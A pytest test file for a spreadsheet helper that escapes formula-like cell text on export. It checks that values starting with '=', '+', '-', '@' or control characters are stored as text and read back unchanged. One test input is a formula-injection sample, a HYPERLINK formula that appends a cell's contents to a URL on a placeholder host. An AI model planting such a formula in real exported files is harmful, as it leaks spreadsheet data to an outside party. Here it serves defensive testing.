"""partyorg.lib.spreadsheet: formula-safe cells (every export) and the .xlsx guard (every upload)."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from partyorg.lib.spreadsheet import FORMULA_STARTS, cell_text, formula_safe, safe_cell

TEXTS = [
    "=1+1",
    '=HYPERLINK("https://x.example/?"&A1)',
    "+84 912 345 678",
    "-5",
    "- gạch đầu dòng",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'",
    "'=1+1",
    "''=1+1",
    "'Bình thường",
    "Nguyễn Văn An",
    "",
    "=",
]


@pytest.mark.parametrize("text", TEXTS)
def test_a_safe_text_never_starts_like_a_formula_and_reads_back_unchanged(text):
    safe = formula_safe(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert cell_text(safe) == text


@pytest.mark.parametrize("value", [None, 0, -5, 3.5, True])
def test_values_that_are_not_texts_are_left_alone(value):
    assert formula_safe(value) is value and cell_text(value) is value


def test_safe_cells_are_stored_as_texts():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append([safe_cell(sheet, text) for text in TEXTS] + [safe_cell(sheet, -5)])
    stream = io.BytesIO()
    workbook.save(stream)
    [row] = load_workbook(stream).active.iter_rows(values_only=True)
    # XML reads a carriage return back as a line feed; the quote in front of it is removed all the same.
    assert [cell_text(value) for value in row[:-1]] == [text.replace("\r", "\n") or None for text in TEXTS]
    assert row[-1] == -5
